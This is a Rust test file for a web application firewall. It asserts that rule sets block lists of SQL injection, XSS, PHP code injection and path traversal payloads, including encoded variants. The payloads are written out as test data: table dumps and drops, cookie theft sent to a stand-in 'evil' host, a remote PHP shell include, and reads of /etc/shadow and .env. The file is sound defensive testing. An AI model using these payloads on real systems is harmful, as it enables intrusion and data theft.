//! Each built-in set against typical attacks and their encoded variants, sent as the query
//! string, as a form body and (for paths) as the request target.

use super::{all_sets, run, target, Req};
use crate::modules::waf::{WafEngine, WafScratch};

/// Asserts that `attack` is blocked by a rule whose id starts with `set_prefix`, sent as the
/// query string and as a form body, and as the request target when it starts with `/`.
fn assert_blocked(e: &WafEngine, s: &mut WafScratch, set_prefix: &str, attack: &str) {
    let mut verdicts = vec![
        (
            "query",
            run(
                e,
                s,
                &Req {
                    path: b"/api/v1/products",
                    query: attack.as_bytes(),
                    headers: &[],
                    body: b"",
                },
            ),
        ),
        (
            "body",
            run(
                e,
                s,
                &Req {
                    path: b"/api/v1/form",
                    query: b"",
                    headers: &[],
                    body: attack.as_bytes(),
                },
            ),
        ),
    ];
    if attack.starts_with('/') {
        let (path, query) = target(attack);
        verdicts.push((
            "target",
            run(
                e,
                s,
                &Req {
                    path,
                    query,
                    headers: &[],
                    body: b"",
                },
            ),
        ));
    }
    for (form, v) in verdicts {
        let hit = v
            .blocked
            .unwrap_or_else(|| panic!("{form} not blocked: {attack}"));
        assert!(
            hit.rule.starts_with(set_prefix),
            "{attack}: blocked by {} not {set_prefix}",
            hit.rule
        );
    }
}

#[test]
fn sqli_attacks_are_blocked() {
    let e = all_sets();
    let mut s = e.scratch();
    for a in [
        "id=1 UNION SELECT username, password FROM users",
        "id=1+union+all+select+null,null--",
        "id=-1%20UnIoN%20SeLeCt%201,2,3",
        "id=1/**/union/**/select/**/1",
        "id=1%2F%2A%2A%2Funion%2F%2A%2A%2Fselect%2F%2A%2A%2F1",
        "id=1 union(select 1)",
        "q=%2527%2520or%2520%25271%2527%253D%25271",
        "user=admin' or '1'='1",
        "user=admin%27%20OR%20%271%27%3D%271",
        "user=' or ''='",
        "id=1' or 1=1--",
        "id=1%27+or+1%3D1--+",
        "id=1 or 1=1",
        "id=1) or (1=1",
        "user=admin'--",
        "user=admin%27--",
        "user=admin' #",
        "user=admin')/*",
        "id=1 and sleep(5)",
        "id=1;SELECT SLEEP(5)",
        "id=1 and benchmark(5000000,md5(1))",
        "id=1;waitfor delay '0:0:5'--",
        "id=1' and extractvalue(1,concat(0x7e,version()))--",
        "q=1 and 1=2 union select table_name from information_schema.tables",
        "q=x' AND 1=0 UNION ALL SELECT load_file('/etc/hosts')",
        "id=1; DROP TABLE users",
        "id=1;delete from orders where 1=1",
        "id=1; insert into users (name) values ('x')",
        "id=1; update users set role='admin'",
        "id=1;exec xp_cmdshell 'dir'",
        "q=select @@version",
        "id=1 into outfile '/tmp/x'",
        "id=1/*!50000union*/ select 1",
    ] {
        assert_blocked(&e, &mut s, "sqli", a);
    }
}

#[test]
fn xss_attacks_are_blocked() {
    let e = all_sets();
    let mut s = e.scratch();
    for a in [
        "q=<script>alert(1)</script>",
        "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "q=%3CSCRIPT+src%3Dhttps%3A%2F%2Fevil.example%2Fx.js%3E",
        "q=< script >",
        "url=javascript:alert(1)",
        "url=JaVaScRiPt%3Aalert%281%29",
        "url=javascript: void(0)",
        "url=javascript://%0aalert(1)",
        "q=<img src=x onerror=alert(1)>",
        "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "q=<svg/onload=alert(1)>",
        "q=\" onmouseover=\"alert(1)",
        "q=<body onload=alert(1)>",
        "q=<iframe src=//evil.example>",
        "q=%3Ciframe%20srcdoc%3D...%3E",
        "q=<object data=x>",
        "q=<embed src=x>",
        "q=<math><mtext></mtext></math>",
        "q=x';document.location='//evil/'+document.cookie",
        "q=String.fromCharCode(88,83,83)",
        "q=data:text/html;base64,PHNjcmlwdD4=",
        "q=<details open ontoggle=alert(1)>",
    ] {
        assert_blocked(&e, &mut s, "xss", a);
    }
}

#[test]
fn php_injection_attacks_are_blocked() {
    let e = all_sets();
    let mut s = e.scratch();
    for a in [
        "cmd=<?php system('id'); ?>",
        "x=%3C%3Fphp+phpinfo()%3B+%3F%3E",
        "x=<?= `ls` ?>",
        "x=eval($_POST['c'])",
        "x=eval(base64_decode('ZWNobyAxOw=='))",
        "x=EVAL (gzinflate(str_rot13('x')))",
        "x=assert($_REQUEST[a])",
        "x=system(\"cat /tmp/x\")",
        "x=shell_exec('whoami')",
        "x=passthru('ls')",
        "x=exec('rm -rf /tmp/x')",
        "x=phpinfo()",
        "x=file_put_contents('s.php', $x)",
        "x=include('http://evil.example/shell.txt')",
        "x=require_once($_GET['f'])",
        "x=$_SERVER['HTTP_USER_AGENT']",
        "page=php://filter/convert.base64-encode/resource=index",
        "page=phar://uploads/x.jpg",
        "page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        "data=O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
        "x=create_function('', $_GET['c'])",
        "x=call_user_func_array('system', array('id'))",
    ] {
        assert_blocked(&e, &mut s, "php", a);
    }
}

#[test]
fn path_traversal_attacks_are_blocked() {
    let e = all_sets();
    let mut s = e.scratch();
    for a in [
        "/static/../../etc/passwd",
        "/static/..%2f..%2fetc%2fpasswd",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "/static/%2E%2E%2F%2E%2E%2Fsecret",
        "/static/%252e%252e%252fsecret",
        "/static/..%5c..%5cwindows",
        "/static/..\\..\\boot.ini",
        "/static/.%2e/secret",
        "/static/%c0%ae%c0%ae/secret",
        "/app/..;/admin",
        "file=../../../../etc/shadow",
        "file=....//....//etc/hosts",
        "file=/proc/self/environ",
        "file=C:\\Windows\\win.ini",
        "file=/var/www/.env",
        "file=/repo/.git/config",
        "file=secret.txt%00.jpg",
        "/download?name=report.pdf%00.html",
    ] {
        assert_blocked(&e, &mut s, "traversal", a);
    }
}
